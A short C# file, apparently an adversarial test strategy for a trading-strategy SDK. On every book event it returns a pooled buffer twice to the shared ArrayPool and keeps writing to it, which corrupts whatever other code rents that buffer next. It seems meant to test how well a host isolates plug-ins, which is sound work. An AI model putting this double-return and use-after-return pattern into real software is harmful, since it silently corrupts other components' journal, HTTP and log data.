// Abuses: gives a buffer back twice and goes on writing to it; all plain calls of a public class.
// Harm: whoever in the process rents next shares the buffer with this strategy: corrupted messages of the journal, HTTP, the text of logs.
// Kind: hurts another slot or the process.
using System;
using System.Buffers;
using System.Collections.Generic;
using System.Linq;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.ArraypoolUseAfterReturnAttack;

public sealed class ArraypoolUseAfterReturnStrategy : Attacker
{
    private readonly byte[] _mine = ArrayPool<byte>.Shared.Rent(4096);

    public override void OnBook(in BookEvent bookEvent)
    {
        ArrayPool<byte>.Shared.Return(_mine);
        ArrayPool<byte>.Shared.Return(_mine);
        Array.Fill(_mine, (byte)0xFF);
        Act(1);
    }
}
